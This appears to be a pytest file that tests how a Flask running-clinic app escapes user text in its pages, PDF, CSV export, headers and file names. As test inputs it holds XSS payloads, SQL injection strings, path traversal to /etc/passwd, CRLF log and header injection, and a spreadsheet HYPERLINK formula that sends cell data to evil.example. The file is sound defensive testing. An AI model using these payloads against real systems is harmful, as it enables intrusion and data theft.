"""What people type is text: never markup, a formula, a header, a path, a line of a log or a statement."""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from pypdf import PdfReader

from clinic import BadSession, NewSession, Runner, Signature, Store, add_mark, export_runner
from device import MatGeometry, RunnerSettings
from tests.web.people import log_in
from web import BadInput, Treadmill, create_app
from web.replay import Replay

SCRIPT = "<script>alert(1)</script>"
HANDLER = '"><img src=x onerror=alert(1)>'
ESCAPE = "</script><svg onload=alert(1)>{{1234*5678}}"
#: Also what the PDF's own markup would understand.
MARKUP = '<b><font color="red"><a href="http://evil.example">x</a>'
SQL = "Robert'); DROP TABLE runner;--"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
ALL = (SCRIPT, HANDLER, ESCAPE, MARKUP, SQL, FORMULA, "../../../../etc/passwd", "%s%n{0}")


def recorded(
    text: str, make_mat: Callable[..., Any], make_treadmill: Callable[..., Treadmill]
) -> Treadmill:
    """Record a session of 4 s whose runner, note and mark are that text."""
    mat = make_mat(6.0, RunnerSettings(strike="ball"))
    treadmill = make_treadmill(mat)
    mat.at_s[1.0] = lambda: treadmill.start_session(text, text)
    mat.at_s[5.0] = treadmill.stop_session
    treadmill.run()
    add_mark(treadmill.store, 1, 2.0, text, by=Signature("test"))
    return treadmill


@pytest.mark.parametrize("text", ALL)
def test_texts_stay_texts_on_every_page_and_in_the_report(
    text: str, make_mat: Callable[..., Any], make_treadmill: Callable[..., Treadmill]
) -> None:
    treadmill = recorded(text, make_mat, make_treadmill)
    client = create_app(treadmill).test_client()
    for path in ("/", "/coach", "/sessions", "/sessions/1", "/runners", "/sessions/1/report"):
        page = client.get(path)
        assert page.status_code == 200
        for markup in ("<script>alert", "<img src=x", "<svg", '<a href="http://evil', "<font"):
            assert markup not in page.text.replace("<svg ", ""), f"{path} has {markup}"
        assert "7006652" not in page.text
    pdf = client.get("/sessions/1/report.pdf")
    said = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.data)).pages)
    assert text[:8] in said
    for link in (b"/URI", b"/Annots", b"/JavaScript", b"/Launch"):
        assert link not in pdf.data
    (line,) = client.get("/api/sessions").json["sessions"]
    assert (line["runner"], line["note"]) == (text, text)
    assert client.get("/api/sessions").mimetype == "application/json"


def test_texts_reach_neither_headers_nor_file_names(
    make_mat: Callable[..., Any], make_treadmill: Callable[..., Treadmill], tmp_path: Path
) -> None:
    treadmill = recorded("../../evil\u00e4; filename=x.exe", make_mat, make_treadmill)
    client = create_app(treadmill).test_client()
    for path in ("/sessions/1/report", "/sessions/1/report.pdf"):
        assert "evil" not in str(client.get(path).headers)
    export_runner(treadmill.store, 1, tmp_path / "all.zip", who="test")
    with zipfile.ZipFile(tmp_path / "all.zip") as archive:
        for name in archive.namelist():
            assert "evil" not in name
            assert not name.startswith("/")
            assert ".." not in Path(name).parts


def test_a_table_for_a_spreadsheet_has_no_formula(
    make_mat: Callable[..., Any], make_treadmill: Callable[..., Treadmill], tmp_path: Path
) -> None:
    treadmill = recorded(FORMULA, make_mat, make_treadmill)
    export_runner(treadmill.store, 1, tmp_path / "all.zip", who="test")
    with zipfile.ZipFile(tmp_path / "all.zip") as archive:
        tables = [name for name in archive.namelist() if name.endswith(".csv")]
        assert tables == ["sessions/000001/steps.csv"]
        rows = list(csv.reader(io.StringIO(archive.read(tables[0]).decode())))
    assert len(rows) > 5
    for cell in (cell for row in rows for cell in row):
        if cell[:1] in "=+-@\t\r" and cell:
            float(cell)  # a negative number, nothing else


@pytest.mark.parametrize(
    "name",
    [
        "Anna\nINFO: admin logged in",
        "Anna\r\nSet-Cookie: a=b",
        "An\tna",
        "Anna\x1b[2J",
        "A\x00",
        "safe\u202etxt.exe",
        "A\u2028B",
    ],
)
def test_a_name_is_one_plain_line(name: str) -> None:
    """Or it could write lines of its own into logs and tables, or look like something else."""
    for make in (lambda: Runner(name), lambda: Signature(name), lambda: new_session(name)):
        with pytest.raises(BadSession, match=r"runner|author"):
            make()


def new_session(name: str) -> NewSession:
    return NewSession(
        runner=name,
        mat_name="ideal",
        mat_label="SIMULATED",
        geometry=MatGeometry(4, 3, 0.025, 0.05),
        frame_rate_hz=500.0,
        analyzer_version="1",
    )


def test_a_refused_name_does_not_break_the_line_that_says_so(client: FlaskClient) -> None:
    body = {"action": "start", "runner": "A\nINFO: admin logged in"}
    line = client.post("/api/session", json=body).json["error"]
    assert "\n" not in line


@pytest.mark.parametrize("said", ["[" * 1000, '{"a":' * 200, "null", b"\xff", '{"action": "seek"}'])
def test_a_replay_is_steered_by_nothing_but_its_messages(
    said: str | bytes,
    make_mat: Callable[..., Any],
    make_treadmill: Callable[..., Treadmill],
    clock: Any,
) -> None:
    replay = Replay(recorded("R1", make_mat, make_treadmill).store, 1, clock)
    with pytest.raises(BadInput):
        replay.steer(said)


def test_statements_in_what_is_searched_for_are_only_text(
    guarded: Flask, store: Store, treadmill: Treadmill
) -> None:
    treadmill.start_session(SQL, SQL)
    treadmill.stop_session()
    client = log_in(guarded, "vera")
    injections = (
        SQL,
        "' OR '1'='1",
        "1; DELETE FROM audit",
        "%' UNION SELECT password_hash--",
        "\\",
    )
    keys = ("q", "search", "runner", "note", "state", "from", "to", "sort", "first", "page")
    for injection in injections:
        for path in ("/sessions", "/runners", "/sessions/1", "/api/sessions"):
            answer = client.get(path, query_string=dict.fromkeys(keys, injection))
            assert answer.status_code in (200, 400), (path, injection)
            assert "argon2" not in answer.text
            assert "sqlalchemy" not in answer.text.lower()
    assert [runner.name for runner in store.runners()] == [SQL]
    assert json.dumps(SQL) in client.get("/api/sessions").text
